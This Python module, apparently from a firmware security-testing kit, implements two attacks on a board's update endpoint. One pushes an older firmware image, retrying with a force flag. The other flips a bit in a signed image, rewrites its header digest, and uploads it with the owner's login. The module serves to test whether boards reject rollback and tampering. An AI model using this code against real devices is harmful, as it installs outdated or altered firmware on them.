"""Updates that no board should take: older ones, and what was changed behind a signature."""

import hashlib
from urllib.parse import urlsplit

from kit.attacks.attack import Attack, Step, came_back, target
from kit.board.board import Board
from kit.errors import ImageError, RollbackError, interruptible
from kit.image.layout import APPLICATION_HEADER, APPLICATION_MAGIC, layout
from kit.image.partition import SECTOR
from kit.image.update_image import UpdateImage
from kit.ota.answer import read
from kit.ota.info import read_info
from kit.ota.login import login
from kit.ota.upload import TAKEN, VERDICT_TIMEOUT, digest_header, image_bytes
from kit.ota.waiting import await_confirmation
from kit.ota.web import Web
from kit.uploads import uploading

HEADING = b"<h1>"
CASE = 0x20  # the bit of ASCII between a capital and a small letter


@interruptible
def downgrade(board: Board | str, image: UpdateImage | bytes, *, confirm: bool = False) -> Attack:
    """Send an older version with the owner's login, first as it is and then with force=1; if it is taken, it runs.

    Raises:
        KitError: this board may not be attacked, does not answer, or does not know the password of the settings.
    """
    web, data = _logged_in(board, confirm), image_bytes(image)
    steps = [_sent(web, data, "/update", "an older version")]
    if not steps[0].answer.startswith("200"):
        steps.append(_sent(web, data, "/update?force=1", "the same with force=1"))
    return Attack("Downgrade", tuple(steps), steps[-1].answer.startswith("200"))


@interruptible
def tamper(board: Board | str, image: UpdateImage | bytes, *, confirm: bool = False) -> Attack:
    """Turn one bit of a signed application, make its own digest right again, and send it with the owner's login.

    The bit makes the first letter of the page's heading a small one; if the board takes it, it runs.

    Raises:
        ImageError: there is no application with such a page in it.
        KitError: this board may not be attacked, does not answer, or does not know the password of the settings.
    """
    web = _logged_in(board, confirm)
    step = _sent(web, tampered(image_bytes(image)), "/update", "one bit turned, and its digest made anew")
    return Attack("Changed image", (step,), step.answer.startswith("200"))


def tampered(image: bytes) -> bytes:
    """Return an image with one bit of its application turned, and the digest in the application's header made anew."""
    data = bytearray(image)
    place = layout(lambda offset, count: data[offset : offset + count], len(data)).application
    at = data.find(HEADING, place.start, place.stop)
    if at < 0:
        raise ImageError("There is no page in this image to be changed.", "Give what kit.build() made.")
    data[at + len(HEADING)] ^= CASE
    digest = hashlib.sha256(data[place.start : place.stop]).digest()
    header = APPLICATION_HEADER.pack(APPLICATION_MAGIC, len(place), digest)
    data[place.start - SECTOR : place.start - SECTOR + len(header)] = header
    return bytes(data)


def _logged_in(board: Board | str, confirm: bool) -> Web:
    web = target(board, confirm)
    login(web, read_info(web), getattr(board, "is_virtual", False))
    return web


def _sent(web: Web, data: bytes, path: str, tried: str) -> Step:
    """Send an image, and wait for a version that was taken to be confirmed."""
    with uploading(web.url, urlsplit(web.url).hostname):
        answer = web.request("POST", path, body=data, headers=digest_header(data, None), seconds=VERDICT_TIMEOUT)
        if not answer.is_ok:
            return Step(tried, came_back(answer))
        taken = read(answer, TAKEN)
        try:
            await_confirmation(web, taken["version"], taken["slot"])
        except RollbackError as error:
            return Step(tried, f"taken, and given up: {error.cause}")
    return Step(tried, f"{came_back(answer)}: version {taken['version']} runs")
